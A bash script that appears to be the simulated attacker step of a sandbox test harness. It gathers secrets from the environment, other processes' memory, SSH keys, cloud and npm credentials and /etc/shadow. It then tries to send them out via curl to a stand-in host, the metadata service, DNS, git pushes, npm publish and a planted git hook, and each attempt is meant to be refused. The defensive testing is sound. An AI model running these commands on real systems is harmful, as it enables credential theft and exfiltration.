#!/bin/bash
# The hostile step. It writes all it can get to .loot; the demo then looks for every known secret in there.
# Each move says what came of it; none may succeed.
set -u
loot=.loot
: > "$loot"
attempt() { # name, command...: a refusal is what we hope for
  local name=$1 out status
  shift
  out=$("$@" 2>&1)
  status=$?
  printf '%s\n%s\n' "== $name ($status)" "$out" >> "$loot"
  if [ "$status" -eq 0 ]; then echo "hostile: $name: GOT THROUGH"; else echo "hostile: $name: refused: $(printf %s "$out" | { grep -m 1 -a 'mayfly: ' || printf %s "$out" | tail -n 1; } | cut -c 1-160)"; fi
}
collect() { # name, command...: whatever comes out is loot
  local name=$1
  shift
  { echo "== $name"; "$@"; } >> "$loot" 2>/dev/null
  echo "hostile: $name: collected"
}

# Secrets in the environment, in other processes, on the disk, in git's configuration (tj-actions, Shai-Hulud).
collect environment env
collect "environment and memory of others" bash -c 'for p in /proc/[0-9]*; do tr "\0" "\n" < $p/environ; tr "\0" " " < $p/cmdline; grep -s -a -o "mayfly_[A-Za-z0-9_-]*" $p/mem; done; true'
collect "files of the machine" bash -c 'cat /root/.npmrc /root/.ssh/* /root/.aws/credentials /home/*/.npmrc /home/*/.ssh/* /etc/shadow ~/.netrc ~/.git-credentials ~/.docker/config.json /var/run/secrets/*/*/token /run/docker.sock; find / -xdev -name "*.key" -o -name ".npmrc" -o -name "*.db" 2>/dev/null | head -50; true'
collect "git configuration" git config --list --show-origin

# The decoy, as it is and twice in base64, as tj-actions printed its loot into a public log.
echo "hostile: the token is $DECOY_TOKEN"
printf %s "$DECOY_TOKEN" | base64 -w0 | base64 -w0
echo

# Ways out: another host, a raw address, the cloud's metadata service, DNS.
attempt "POST to another host" curl -sS -f -m 5 -d @"$loot" https://collector.example.net/
attempt "raw address, past the proxy" curl -sS -f -m 5 --noproxy '*' http://1.1.1.1/
attempt "raw address, through the proxy" curl -sS -f -m 5 https://1.1.1.1/
attempt "metadata service" curl -sS -f -m 5 http://169.254.169.254/latest/meta-data/iam/security-credentials/
attempt "DNS" bash -c 'getent hosts "$(head -c 8 /dev/urandom | od -An -tx1 | tr -d " \n").collector.example.net"'
attempt "DNS server by UDP" bash -c 'exec 3<>/dev/udp/8.8.8.8/53 && printf x >&3 && timeout 2 head -c 1 <&3'

# The allowed Git host as the way out: another branch, another repository, a token of the attacker's own.
attempt "push to a branch" git push -q origin HEAD:refs/heads/backdoor
attempt "move a tag" git push -q -f origin HEAD:refs/tags/v1.0.0
attempt "another repository" git clone -q https://git.example.com/octo-org/payroll /tmp/payroll
attempt "push with a token of its own" git push -q https://attacker:ghp_attackersowntoken@git.example.com/attacker/loot HEAD:main
attempt "API of the Git host" curl -sS -f -m 5 -H 'Authorization: Bearer ghp_attackersowntoken' https://git.example.com/api/v1/user
# This one is granted (reading); what counts is that the server never sees the attacker's token.
collect "read with a token of its own" git -c http.extraHeader='Authorization: Bearer ghp_attackersowntoken' ls-remote origin

# The registry: a package that no lockfile pins, publishing.
attempt "package that is not in the lockfile" npm view evil-payload-9000
attempt "npm publish" npm publish --ignore-scripts

# Out of the sandbox, or into the next step.
attempt "new namespaces" unshare -Urm true
attempt "hook for the next step" bash -c 'echo "curl https://collector.example.net" > .git/hooks/pre-push'
attempt "change git's configuration" git config core.sshCommand 'curl https://collector.example.net'
exit 0
